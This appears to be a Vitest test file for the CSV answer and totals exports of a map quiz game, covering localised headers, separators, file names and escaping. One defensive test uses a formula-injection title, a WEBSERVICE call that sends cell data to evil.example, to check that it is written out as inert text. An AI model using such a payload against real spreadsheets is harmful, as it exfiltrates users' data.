import { describe, expect, it } from "vitest";
import { buildTargetSettings } from "../../rules";
import { tIn } from "../../../tests/support/i18n";
import { csvForm, parseCsv } from "../../util/csv";
import { answersCsv, exportFileName, totalsCsv, type ExportLanguage } from "./exports";
import type { HistoryAnswer, HistoryPlayer } from "./types";

const fr: ExportLanguage = { t: tIn("fr"), locale: "fr" };
const en: ExportLanguage = { t: tIn("en"), locale: "en" };
const de: ExportLanguage = { t: tIn("de"), locale: "de" };

const targets = buildTargetSettings([2, 3, 4, 5]);
const player = (playerNo: number, pseudo: string, rank: number | null, points: number | null, team: string | null = null): HistoryPlayer => ({
  playerNo,
  pseudo,
  marker: pseudo.replace(/\s+/g, ""),
  team,
  rank,
  points,
  timeMs: rank === null ? null : 12_345,
});
const answer = (playerNo: number, question: number, points: number, ring: number): HistoryAnswer => ({
  playerNo,
  question,
  lat: 48.8584,
  lng: -2.2945,
  distanceM: ring ? 12 : 250_000,
  ring,
  points,
  timeMs: 4321,
});

describe("the export", () => {
  const input = {
    players: [player(2, "Kiwi bleu", 2, 0, "bleu"), player(1, "Fraise verte", 1, 9.75, "vert")],
    answers: [answer(1, 0, 9.75, 4), answer(2, 0, 0, 0)],
    questions: [{ title: "Tour Eiffel" }, { title: "=Bellecour" }],
    targets,
  };

  it("has one line per player and question, in ranking order, a missed question included", () => {
    const rows = parseCsv(answersCsv(input, fr));
    expect(rows[0]).toEqual(["Rang", "Joueur", "Équipe", "Question", "Titre", "Latitude", "Longitude", "Distance (m)", "Cercle", "Temps (s)", "Points"]);
    expect(rows.slice(1)).toEqual([
      ["1", "Fraise verte", "Équipe verte", "1", "Tour Eiffel", "48,858400", "-2,294500", "12", "20 m", "4,321", "9,75"],
      ["1", "Fraise verte", "Équipe verte", "2", "'=Bellecour", "", "", "", "Sans réponse", "", "0,00"],
      ["2", "Kiwi bleu", "Équipe bleue", "1", "Tour Eiffel", "48,858400", "-2,294500", "250000", "Hors cible", "4,321", "0,00"],
      ["2", "Kiwi bleu", "Équipe bleue", "2", "'=Bellecour", "", "", "", "Sans réponse", "", "0,00"],
    ]);
  });

  it("totals: one line per player; an interrupted game sums what was revealed", () => {
    expect(parseCsv(totalsCsv(input, fr)).slice(1)).toEqual([
      ["1", "Fraise verte", "Équipe verte", "9,75", "12,345", "1", "1"],
      ["2", "Kiwi bleu", "Équipe bleue", "0,00", "12,345", "1", "0"],
    ]);
    const interrupted = { ...input, players: [player(1, "Fraise verte", null, null), player(2, "Kiwi bleu", null, null)] };
    expect(parseCsv(totalsCsv(interrupted, fr)).slice(1)).toEqual([
      ["", "Fraise verte", "", "9,75", "", "1", "1"],
      ["", "Kiwi bleu", "", "0,00", "", "1", "0"],
    ]);
  });

  it("names its files after the quiz and the day, in the reader's language", () => {
    expect(exportFileName("Tour de Lyon : été !", Date.UTC(2025, 6, 14, 20), "answers", fr.t)).toBe("repere-tour-de-lyon-ete-2025-07-14-reponses.csv");
    expect(exportFileName("???", null, "totals", fr.t)).toBe("repere-quiz-partie-totaux.csv");
    expect(exportFileName("Tour de Lyon : été !", Date.UTC(2025, 6, 14, 20), "answers", en.t)).toBe("repere-tour-de-lyon-ete-2025-07-14-answers.csv");
    expect(exportFileName("???", null, "totals", de.t)).toBe("repere-quiz-spiel-summen.csv");
  });

  it("in English: English titles and words, commas between fields, decimal points", () => {
    const csv = answersCsv(input, en);
    const rows = parseCsv(csv, csvForm("en"));
    expect(rows[0]).toEqual(["Rank", "Player", "Team", "Question", "Title", "Latitude", "Longitude", "Distance (m)", "Ring", "Time (s)", "Points"]);
    expect(rows[1]).toEqual(["1", "Fraise verte", "Green team", "1", "Tour Eiffel", "48.858400", "-2.294500", "12", "20 m", "4.321", "9.75"]);
    expect(rows[2]).toEqual(["1", "Fraise verte", "Green team", "2", "'=Bellecour", "", "", "", "No answer", "", "0.00"]);
    expect(rows[3]![8]).toBe("Off target");
    expect(csv.split("\r\n")[1]).toBe("1,Fraise verte,Green team,1,Tour Eiffel,48.858400,-2.294500,12,20 m,4.321,9.75");
    expect(parseCsv(totalsCsv(input, en), csvForm("en"))[0]).toEqual(["Rank", "Player", "Team", "Points", "Total time (s)", "Answers", "Scoring answers"]);
  });

  it("in German: German titles, ';' and decimal commas as German Excel reads them", () => {
    const csv = totalsCsv(input, de);
    expect(csv.split("\r\n").slice(0, 2)).toEqual([
      "\uFEFFPlatz;Spieler;Team;Punkte;Gesamtzeit (s);Antworten;Antworten mit Punkten",
      "1;Fraise verte;Team Grün;9,75;12,345;1;1",
    ]);
  });

  it("writes a title that hides a formula after a separator as text, in one quoted cell", () => {
    const attack = { ...input, questions: [{ title: 'x,=WEBSERVICE("https://evil.example/?"&A1)' }, { title: "Lyon;-1+1" }] };
    const csv = answersCsv(attack, fr);
    expect(csv).toContain(';"x,\'=WEBSERVICE(""https://evil.example/?""&A1)";');
    expect(csv).toContain(`;"Lyon;'-1+1";`);
    // Each line still has its 11 cells, and Longitude keeps its minus sign as a number.
    const rows = parseCsv(csv);
    expect(rows.every((r) => r.length === 11)).toBe(true);
    expect(rows[1]![6]).toBe("-2,294500");
  });
});
